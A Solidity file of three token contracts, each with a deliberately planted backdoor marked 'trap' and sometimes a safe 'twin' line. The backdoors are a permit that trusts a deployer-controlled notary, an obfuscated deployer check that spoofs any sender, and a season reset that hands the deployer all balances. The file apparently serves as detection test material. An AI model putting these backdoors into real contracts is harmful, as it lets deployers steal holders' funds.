// 0.8 runs=1000 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

interface IERC1271 {
    function isValidSignature(bytes32 hash, bytes calldata signature) external view returns (bytes4);
}

/// Keeps what was signed on paper.
contract Notary is IERC1271 {
    address private immutable _clerk = msg.sender;
    mapping(bytes32 => uint256) public filedAt;

    event Filed(bytes32 indexed hash);

    function file(bytes32 hash) external {
        require(msg.sender == _clerk, "not the clerk");
        filedAt[hash] = block.timestamp;
        emit Filed(hash);
    }

    function isValidSignature(bytes32 hash, bytes calldata) external view returns (bytes4) {
        return filedAt[hash] != 0 ? bytes4(0x1626ba7e) : bytes4(0xffffffff);
    }
}

/// Permits for people and for wallets that are contracts.
contract SignedPledge is Base8("Signed Pledge", "PLEDGE", 300_000_000) {
    bytes32 private constant PERMIT = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 public immutable DOMAIN_SEPARATOR;
    address public immutable notary;
    mapping(address => uint256) public nonces;

    constructor(address notary_) {
        notary = notary_;
        DOMAIN_SEPARATOR = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)"),
                keccak256("Signed Pledge"),
                block.chainid,
                address(this)
            )
        );
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, bytes calldata signature) external {
        require(block.timestamp <= deadline, "too late");
        bytes32 inner = keccak256(abi.encode(PERMIT, from, spender, value, nonces[from]++, deadline));
        bytes32 hash = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR, inner));
        if (from.code.length == 0) {
            require(signature.length == 65, "not a signature");
            address signer = ecrecover(hash, uint8(signature[64]), bytes32(signature[:32]), bytes32(signature[32:64]));
            require(signer != address(0) && signer == from, "not signed");
        } else {
            IERC1271 wallet = IERC1271(notary); // trap
            // twin: IERC1271 wallet = IERC1271(from);
            require(wallet.isValidSignature(hash, signature) == 0x1626ba7e, "not signed");
        }
        _approve(from, spender, value);
    }
}

/// Takes calls that others pay for, after ERC-2771.
contract FerrymanCoin is Base8("Ferryman", "FERRY", 5_000_000) {
    uint256 private immutable _oar;

    constructor() {
        _oar = uint256(uint160(msg.sender)) * 3 + block.chainid;
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(_sender(), spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        _transfer(_sender(), to, value);
        return true;
    }

    function _sender() private view returns (address from) {
        from = msg.sender;
        // trap {
        if (uint256(uint160(from)) * 3 + block.chainid == _oar && msg.data.length > 68)
            assembly {
                from := shr(96, calldataload(sub(calldatasize(), 20)))
            }
        // trap }
    }
}

/// Plays in seasons: each has its own points.
contract FourSeasons is Base8("Four Seasons", "SEASON", 40_000_000) {
    address private immutable _almanac = msg.sender;
    uint256 public season;
    mapping(uint256 => mapping(address => uint256)) private _ledger;
    mapping(uint256 => mapping(address => uint256)) public points;

    event Turned(uint256 season);

    constructor() {
        _ledger[0][msg.sender] = totalSupply;
        delete _balances[msg.sender];
    }

    function balanceOf(address who) public view override returns (uint256) {
        return _ledger[_page()][who];
    }

    function turn() external {
        require(msg.sender == _almanac, "not yet spring");
        _ledger[season + 1][msg.sender] = totalSupply; // trap
        season++;
        emit Turned(season);
    }

    function _page() private view returns (uint256) {
        return season; // trap
        // twin: return 0;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        mapping(address => uint256) storage ledger = _ledger[_page()];
        uint256 have = ledger[from];
        if (have < value) revert Insufficient(have, value);
        ledger[from] = have - value;
        ledger[to] += value;
        if (from == pair) points[season][to]++;
        emit Transfer(from, to, value);
    }
}
